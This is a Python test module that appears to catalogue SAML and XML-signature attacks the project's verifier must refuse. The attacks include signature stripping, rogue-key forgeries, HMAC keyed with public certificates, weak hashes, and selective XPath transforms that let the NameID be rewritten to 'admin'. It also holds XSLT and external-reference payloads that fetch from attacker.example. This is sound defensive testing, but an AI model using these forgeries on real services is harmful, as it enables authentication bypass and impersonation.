"""Keys and algorithms: who may sign, with what, over what.

Where the attack is "a signature the verifier should not believe", the signature is real: made
with xmlsec by the rogue STS, with the trusted certificate's public bytes as an HMAC key, or by
the trusted issuer itself under a weak or selective algorithm, so that only the trust and
algorithm policy stands between it and acceptance. Attacks on what a verifier fetches or runs
before any cryptography (XSLT, external references, RetrievalMethod) only need the edit.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
from collections.abc import Callable, Sequence
from typing import TYPE_CHECKING

import xmlsec
from cryptography.hazmat.primitives import serialization
from lxml import etree

from samples.pki import Identity
from security.attacks_wrapping import forge, id_attribute, proof_of, signature_of, timestamp_of, to_of
from security.harness import Attack, Build, World, assertion_of, on_tree, refused
from wsbind.errors import FaultCode
from wsbind.saml.issuer import HOLDER_OF_KEY_V2, SamlVersion
from wsbind.soap import namespaces as ns

if TYPE_CHECKING:
    from xmlsec.constants import __Transform as Transform

C = xmlsec.constants
_DS = f"{{{ns.DS}}}"
_XPATH_FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"
_XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
_BASE64 = "http://www.w3.org/2000/09/xmldsig#base64"
_ATTACKER_URL = "https://attacker.example/keys/sts.cer"

SOMOROVSKY_2012 = "Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be, USENIX Security 2012"
CERT_FAKING = "Certificate Faking (sso-attacks.org, Ruhr-University Bochum); CVE-2024-32962 (xml-crypto trusts KeyInfo)"
KEYINFO_TRUST = "CVE-2021-21239 (pysaml2 accepted keys found in KeyInfo); CVE-2024-32962 (xml-crypto trusts KeyInfo)"
HMAC_PUBLIC_KEY = "CVE-2018-7644 (xmlseclibs HMAC keyed with the IdP's public key); CVE-2015-9235 (JWT analogue)"
HMAC_TRUNCATION = "CVE-2009-0217 (XML Signature HMACOutputLength truncation)"
SHA1_COLLISIONS = "Leurent & Peyrin, SHA-1 is a Shambles, USENIX Security 2020"
MD5_BROKEN = "RFC 6151 (MD5 is not collision resistant)"
HILL_2007 = "Brad Hill, Attacking XML Security, Black Hat USA 2007"
DSIG_BEST_PRACTICES = "W3C XML Signature Best Practices (Working Group Note)"
HOK_PROFILE = "OASIS WSS SAML Token Profile 1.1, holder-of-key confirmation"


# -- signing for real -----------------------------------------------------------------------

AddTransforms = Callable[[etree._Element], None]


def private_key(identity: Identity) -> xmlsec.Key:
    """``identity``'s private key for xmlsec, with its certificate attached (for X509Data)."""
    pem = identity.private_key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    key = xmlsec.Key.from_memory(pem, C.KeyDataFormatPem)
    key.load_cert_from_memory(identity.certificate.public_bytes(serialization.Encoding.PEM), C.KeyDataFormatCertPem)
    return key


def hmac_key(secret: bytes) -> xmlsec.Key:
    return xmlsec.Key.from_binary_data(C.KeyDataHmac, secret)


def cert_der(identity: Identity) -> bytes:
    return identity.certificate.public_bytes(serialization.Encoding.DER)


def _enveloped_c14n(reference: etree._Element) -> None:
    xmlsec.template.add_transform(reference, C.TransformEnveloped)
    xmlsec.template.add_transform(reference, C.TransformExclC14N)


def sign_assertion(
    assertion: etree._Element,
    key: xmlsec.Key,
    *,
    method: Transform = C.TransformRsaSha256,
    digest: Transform = C.TransformSha256,
    transforms: AddTransforms = _enveloped_c14n,
    uri: str | None = None,
    certificate: bool = True,
) -> etree._Element:
    """Replace the assertion's signature with a new enveloped one, made by xmlsec with ``key``."""
    old = assertion.find(f"{_DS}Signature")
    if old is not None:
        assertion.remove(old)
    signature = xmlsec.template.create(assertion, C.TransformExclC14N, method, ns="ds")
    issuer = assertion.find(f"{{{ns.SAML2}}}Issuer")
    if issuer is not None:
        issuer.addnext(signature)
    else:
        assertion.append(signature)
    identifier = assertion.get(id_attribute(assertion))
    reference = xmlsec.template.add_reference(signature, digest, uri=f"#{identifier}" if uri is None else uri)
    transforms(reference)
    if certificate:
        xmlsec.template.x509_data_add_certificate(
            xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
        )
    xmlsec.tree.add_ids(assertion, [id_attribute(assertion)])
    context = xmlsec.SignatureContext()
    context.key = key
    context.sign(signature)
    return signature


def reissued(
    change: Callable[[etree._Element, World], None],
    version: SamlVersion = SamlVersion.V2_0,
    *,
    rogue: bool = False,
) -> Build:
    """Build from a freshly issued assertion that ``change`` edits or re-signs, in a new envelope."""

    def build(world: World) -> list[bytes]:
        assertion = etree.fromstring(world.issue(version, rogue=rogue))
        change(assertion, world)
        return [world.envelope(etree.tostring(assertion))]

    return build


def _key_info(signature: etree._Element, *children: etree._Element) -> None:
    """Replace the signature's KeyInfo content with ``children``."""
    key_info = signature.find(f"{_DS}KeyInfo")
    if key_info is None:
        key_info = etree.SubElement(signature, f"{_DS}KeyInfo")
    for child in list(key_info):
        key_info.remove(child)
    key_info.extend(children)


def _rsa_key_value(identity: Identity) -> etree._Element:
    numbers = identity.private_key.public_key().public_numbers()

    def b64(value: int) -> str:
        return base64.b64encode(value.to_bytes((value.bit_length() + 7) // 8, "big")).decode()

    key_value = etree.Element(f"{_DS}KeyValue")
    rsa = etree.SubElement(key_value, f"{_DS}RSAKeyValue")
    etree.SubElement(rsa, f"{_DS}Modulus").text = b64(numbers.n)
    etree.SubElement(rsa, f"{_DS}Exponent").text = b64(numbers.e)
    return key_value


def _x509_data(identity: Identity) -> etree._Element:
    data = etree.Element(f"{_DS}X509Data")
    etree.SubElement(data, f"{_DS}X509Certificate").text = base64.b64encode(cert_der(identity)).decode()
    return data


# -- who signed -----------------------------------------------------------------------------


def _strip_signature(assertion: etree._Element, world: World) -> None:
    """Signature exclusion: remove the signature and forge the content, for verifiers that only
    check a signature when there is one."""
    assertion.remove(signature_of(assertion))
    forge(assertion)


def _rogue_forged(keep_key_info: bool) -> Callable[[etree._Element, World], None]:
    """The rogue STS (same issuer name) signs a forged assertion; its certificate in KeyInfo or not."""

    def change(assertion: etree._Element, world: World) -> None:
        forge(assertion)
        sign_assertion(assertion, private_key(world.rogue), certificate=keep_key_info)

    return change


def _rogue_key_info(*contents: Callable[[World], etree._Element]) -> Callable[[etree._Element, World], None]:
    """A rogue-signed forged assertion whose KeyInfo says whatever the attacker likes."""

    def change(assertion: etree._Element, world: World) -> None:
        forge(assertion)
        signature = sign_assertion(assertion, private_key(world.rogue), certificate=False)
        _key_info(signature, *(content(world) for content in contents))

    return change


def _retrieval_method(world: World) -> etree._Element:
    return etree.Element(
        f"{_DS}RetrievalMethod", URI=_ATTACKER_URL, Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"
    )


def _key_name(world: World) -> etree._Element:
    element = etree.Element(f"{_DS}KeyName")
    element.text = world.issuer.certificate.subject.rfc4514_string()
    return element


def _decoy_trusted_signature(assertion: etree._Element, world: World) -> None:
    """A rogue-signed forged assertion also carries a copy of a genuine trusted signature: a
    verifier that checks one signature and trusts because of the other is fooled."""
    genuine = signature_of(etree.fromstring(world.issue()))
    forge(assertion)
    sign_assertion(assertion, private_key(world.rogue))
    assertion.append(genuine)


def _rogue_hok(world: World) -> list[bytes]:
    """The rogue STS vouches that the client's key holds alice's identity; the proof is genuine."""
    assertion = world.issue(
        rogue=True, confirmation_method=HOLDER_OF_KEY_V2, confirmation_key_info=world.client_key_info()
    )
    return [world.holder_of_key(assertion)]


# -- which algorithm ------------------------------------------------------------------------


def _hmac_with_public_key(
    secret: Callable[[World], bytes], method: Transform
) -> Callable[[etree._Element, World], None]:
    """A forged assertion with a real HMAC signature keyed by bytes anyone has (the trusted
    certificate or its public key): a verifier that takes the algorithm from the message and the
    key from its trust list accepts it."""

    def change(assertion: etree._Element, world: World) -> None:
        forge(assertion)
        sign_assertion(assertion, hmac_key(secret(world)), method=method, certificate=False)
        _key_info(signature_of(assertion), _x509_data(world.issuer))

    return change


def _public_key_der(world: World) -> bytes:
    return world.issuer.certificate.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _truncated_hmac(assertion: etree._Element, world: World) -> None:
    """HMAC-SHA1 truncated to 8 bits by HMACOutputLength: one guess in 256 verifies. The value here
    is the real truncated HMAC keyed by the trusted certificate, computed by hand (xmlsec itself
    refuses to make a signature this short)."""
    forge(assertion)
    assertion.remove(signature_of(assertion))
    digest = base64.b64encode(hashlib.sha256(etree.tostring(assertion, method="c14n", exclusive=True)).digest())
    signature = xmlsec.template.create(assertion, C.TransformExclC14N, C.TransformHmacSha1, ns="ds")
    find_in(assertion, "saml2:Issuer").addnext(signature)
    reference = xmlsec.template.add_reference(signature, C.TransformSha256, uri=f"#{assertion.get('ID')}")
    _enveloped_c14n(reference)
    etree.SubElement(find_in(signature, "ds:SignedInfo/ds:SignatureMethod"), f"{_DS}HMACOutputLength").text = "8"
    find_in(signature, "ds:SignedInfo/ds:Reference/ds:DigestValue").text = digest.decode()
    signed_info = etree.tostring(find_in(signature, "ds:SignedInfo"), method="c14n", exclusive=True)
    value = hmac.new(cert_der(world.issuer), signed_info, hashlib.sha1).digest()[:1]
    find_in(signature, "ds:SignatureValue").text = base64.b64encode(value).decode()


def find_in(element: etree._Element, path: str) -> etree._Element:
    found = element.find(path, namespaces={"ds": ns.DS, "saml2": ns.SAML2})
    assert found is not None, path
    return found


def _weak_algorithms(method: Transform, digest: Transform) -> Callable[[etree._Element, World], None]:
    """The trusted issuer itself signs (for real) with a weak hash: a collision on it would let an
    attacker move the issuer's signature to a colliding assertion. Not forged: the point is that
    the algorithm alone refuses it."""

    def change(assertion: etree._Element, world: World) -> None:
        sign_assertion(assertion, private_key(world.issuer), method=method, digest=digest)

    return change


# -- what is signed ---------------------------------------------------------------------------


def _selective_transform(add: AddTransforms) -> Callable[[etree._Element, World], None]:
    """The trusted issuer signs for real through a transform that leaves the Subject out of the
    digest; the attacker then rewrites the NameID and the signature still verifies."""

    def change(assertion: etree._Element, world: World) -> None:
        sign_assertion(assertion, private_key(world.issuer), transforms=add)
        find_in(assertion, "saml2:Subject/saml2:NameID").text = "admin"

    return change


def _xpath_excluding_subject(reference: etree._Element) -> None:
    xmlsec.template.add_transform(reference, C.TransformEnveloped)
    transform = xmlsec.template.add_transform(reference, C.TransformXPath)
    etree.SubElement(transform, f"{_DS}XPath", nsmap={"saml2": ns.SAML2}).text = "not(ancestor-or-self::saml2:Subject)"
    xmlsec.template.add_transform(reference, C.TransformExclC14N)


def _filter2_subtracting_subject(reference: etree._Element) -> None:
    xmlsec.template.add_transform(reference, C.TransformEnveloped)
    transform = xmlsec.template.add_transform(reference, C.TransformXPath2)
    xpath = etree.SubElement(
        transform,
        f"{{{_XPATH_FILTER2}}}XPath",
        Filter="subtract",
        nsmap={"dsig-xpath": _XPATH_FILTER2, "saml2": ns.SAML2},
    )
    xpath.text = "//saml2:Subject"
    xmlsec.template.add_transform(reference, C.TransformExclC14N)


def _xslt_transform(root: etree._Element, world: World) -> None:
    """An XSLT transform in the Reference: a verifier runs it before it knows whether the signature
    holds, so any sender gets code (here: a network fetch) run on the server."""
    reference = find_in(signature_of(assertion_of(root)), "ds:SignedInfo/ds:Reference")
    transforms = find_in(reference, "ds:Transforms")
    transform = etree.Element(f"{_DS}Transform", Algorithm=_XSLT)
    sheet = etree.SubElement(
        transform,
        "{http://www.w3.org/1999/XSL/Transform}stylesheet",
        version="1.0",
        nsmap={"xsl": "http://www.w3.org/1999/XSL/Transform"},
    )
    template = etree.SubElement(sheet, "{http://www.w3.org/1999/XSL/Transform}template", match="/")
    etree.SubElement(template, "{http://www.w3.org/1999/XSL/Transform}copy-of", select=f"document('{_ATTACKER_URL}')")
    transforms[-1].addprevious(transform)
    forge(assertion_of(root))


def _base64_transform(root: etree._Element, world: World) -> None:
    """A base64 transform: the digest then covers decoded text, not the assertion's structure."""
    reference = find_in(signature_of(assertion_of(root)), "ds:SignedInfo/ds:Reference")
    find_in(reference, "ds:Transforms")[-1].addprevious(etree.Element(f"{_DS}Transform", Algorithm=_BASE64))
    forge(assertion_of(root))


def _issuer_reference(uri: Callable[[etree._Element], str]) -> Callable[[etree._Element, World], None]:
    """The issuer signs the standalone assertion for real with a Reference that is not "#ID" (the
    whole document, or an XPointer): valid where it was made, but once embedded in the message
    nothing ties the signature to this one element, so it can be wrapped or resolved differently."""

    def change(assertion: etree._Element, world: World) -> None:
        sign_assertion(assertion, private_key(world.issuer), uri=uri(assertion))

    return change


def _external_reference(root: etree._Element, world: World) -> None:
    """The Reference names a URL: a verifier dereferences it (a request to the attacker's server)
    before it finds the signature invalid."""
    find_in(signature_of(assertion_of(root)), "ds:SignedInfo/ds:Reference").set("URI", _ATTACKER_URL)
    forge(assertion_of(root))


# -- holder-of-key proofs ---------------------------------------------------------------------


def _resign_proof(key: Callable[[World], xmlsec.Key], method: Transform) -> Callable[[etree._Element, World], None]:
    """The proof signature over the same Timestamp and To, made again with another key."""

    def change(root: etree._Element, world: World) -> None:
        old = proof_of(root)
        key_info = copy.deepcopy(find_in(old, "ds:KeyInfo"))
        security = old.getparent()
        assert security is not None
        security.remove(old)
        signature = xmlsec.template.create(root, C.TransformExclC14N, method, ns="ds")
        security.append(signature)
        context = xmlsec.SignatureContext()
        for target in (timestamp_of(root), to_of(root)):
            uri = "#" + (target.get(f"{{{ns.WSU}}}Id") or "")
            reference = xmlsec.template.add_reference(signature, C.TransformSha256, uri=uri)
            xmlsec.template.add_transform(reference, C.TransformExclC14N)
            context.register_id(target, "Id", ns.WSU)
        signature.append(key_info)
        context.key = key(world)
        context.sign(signature)

    return change


# -- the catalogue ----------------------------------------------------------------------------

_TOKEN = FaultCode.INVALID_SECURITY_TOKEN
_AUTH = FaultCode.FAILED_AUTHENTICATION
_NOT_AUTHENTICATED = FaultCode.FAILED_AUTHENTICATION


def _key(id: str, build: Build, expect: FaultCode, reasons: Sequence[str], source: str) -> Attack:
    return refused(id, "key-algorithm", build, expect, *reasons, source=source)


ATTACKS: list[Attack] = [
    # Who signed.
    *(
        _key(
            f"key-signature-stripped-{label}", reissued(_strip_signature, version), _AUTH, ["unsigned"], SOMOROVSKY_2012
        )
        for label, version in (("saml2", SamlVersion.V2_0), ("saml11", SamlVersion.V1_1))
    ),
    *(
        _key(
            f"key-rogue-signed-with-its-cert-{label}",
            reissued(_rogue_forged(keep_key_info=True), version),
            _AUTH,
            ["untrusted-issuer"],
            CERT_FAKING,
        )
        for label, version in (("saml2", SamlVersion.V2_0), ("saml11", SamlVersion.V1_1))
    ),
    _key(
        "key-rogue-signed-without-keyinfo",
        reissued(_rogue_forged(keep_key_info=False)),
        _NOT_AUTHENTICATED,
        ["signature"],
        KEYINFO_TRUST,
    ),
    _key(
        "key-rogue-signed-naming-trusted-cert",
        reissued(_rogue_key_info(lambda world: _x509_data(world.issuer))),
        _NOT_AUTHENTICATED,
        ["signature"],
        CERT_FAKING,
    ),
    _key(
        "key-rogue-keyvalue-in-keyinfo",
        reissued(_rogue_key_info(lambda world: _rsa_key_value(world.rogue))),
        _NOT_AUTHENTICATED,
        ["signature"],
        KEYINFO_TRUST,
    ),
    _key(
        "key-trusted-cert-beside-rogue-keyvalue",
        reissued(_rogue_key_info(lambda world: _x509_data(world.issuer), lambda world: _rsa_key_value(world.rogue))),
        _NOT_AUTHENTICATED,
        ["signature"],
        KEYINFO_TRUST,
    ),
    _key(
        "key-retrieval-method-to-attacker",
        reissued(_rogue_key_info(_retrieval_method)),
        _NOT_AUTHENTICATED,
        ["signature"],
        DSIG_BEST_PRACTICES,
    ),
    _key(
        "key-keyname-of-trusted-issuer",
        reissued(_rogue_key_info(_key_name)),
        _NOT_AUTHENTICATED,
        ["signature"],
        KEYINFO_TRUST,
    ),
    _key(
        "key-decoy-trusted-signature",
        reissued(_decoy_trusted_signature),
        _TOKEN,
        ["signature-profile"],
        SOMOROVSKY_2012,
    ),
    _key("key-rogue-sts-vouches-for-hok-key", _rogue_hok, _AUTH, ["untrusted-issuer"], CERT_FAKING),
    # Which algorithm.
    *(
        _key(
            f"key-hmac-keyed-with-{label}",
            reissued(_hmac_with_public_key(secret, method)),
            _TOKEN,
            ["algorithm"],
            HMAC_PUBLIC_KEY,
        )
        for label, secret, method in (
            ("cert-der-sha256", lambda world: cert_der(world.issuer), C.TransformHmacSha256),
            ("public-der-sha1", _public_key_der, C.TransformHmacSha1),
        )
    ),
    _key("key-hmac-output-length-8", reissued(_truncated_hmac), _TOKEN, ["algorithm"], HMAC_TRUNCATION),
    _key(
        "key-rsa-sha1-by-issuer",
        reissued(_weak_algorithms(C.TransformRsaSha1, C.TransformSha1)),
        _TOKEN,
        ["algorithm"],
        SHA1_COLLISIONS,
    ),
    _key(
        "key-sha1-digest-by-issuer-saml11",
        reissued(_weak_algorithms(C.TransformRsaSha256, C.TransformSha1), SamlVersion.V1_1),
        _TOKEN,
        ["algorithm"],
        SHA1_COLLISIONS,
    ),
    _key(
        "key-rsa-md5-by-issuer",
        reissued(_weak_algorithms(C.TransformRsaMd5, C.TransformMd5)),
        _TOKEN,
        ["algorithm"],
        MD5_BROKEN,
    ),
    _key(
        "key-md5-digest-by-issuer",
        reissued(_weak_algorithms(C.TransformRsaSha256, C.TransformMd5)),
        _TOKEN,
        ["algorithm"],
        MD5_BROKEN,
    ),
    # What is signed.
    _key(
        "key-xpath-transform-by-issuer",
        reissued(_selective_transform(_xpath_excluding_subject)),
        _TOKEN,
        ["algorithm"],
        HILL_2007,
    ),
    _key(
        "key-xpath-filter2-by-issuer",
        reissued(_selective_transform(_filter2_subtracting_subject)),
        _TOKEN,
        ["algorithm"],
        HILL_2007,
    ),
    _key("key-xslt-transform", on_tree("saml2", _xslt_transform), _TOKEN, ["algorithm"], HILL_2007),
    _key("key-base64-transform", on_tree("saml2", _base64_transform), _TOKEN, ["algorithm"], DSIG_BEST_PRACTICES),
    *(
        _key(
            f"key-reference-{label}-by-issuer",
            reissued(_issuer_reference(uri)),
            _TOKEN,
            ["reference"],
            DSIG_BEST_PRACTICES,
        )
        for label, uri in (
            ("whole-document", lambda assertion: ""),
            ("xpointer-root", lambda assertion: "#xpointer(/)"),
            ("xpointer-id", lambda assertion: f"#xpointer(id('{assertion.get('ID')}'))"),
        )
    ),
    _key("key-reference-external-url", on_tree("saml2", _external_reference), _TOKEN, ["reference"], HILL_2007),
    # Holder-of-key proofs.
    _key(
        "key-hok-proof-by-another-key",
        on_tree("hok", _resign_proof(lambda world: private_key(world.rogue), C.TransformRsaSha256)),
        _NOT_AUTHENTICATED,
        ["proof-signature"],
        HOK_PROFILE,
    ),
    _key(
        "key-hok-proof-hmac-keyed-with-client-cert",
        on_tree("hok", _resign_proof(lambda world: hmac_key(cert_der(world.client)), C.TransformHmacSha256)),
        FaultCode.INVALID_SECURITY,
        ["algorithm"],
        HMAC_PUBLIC_KEY,
    ),
]
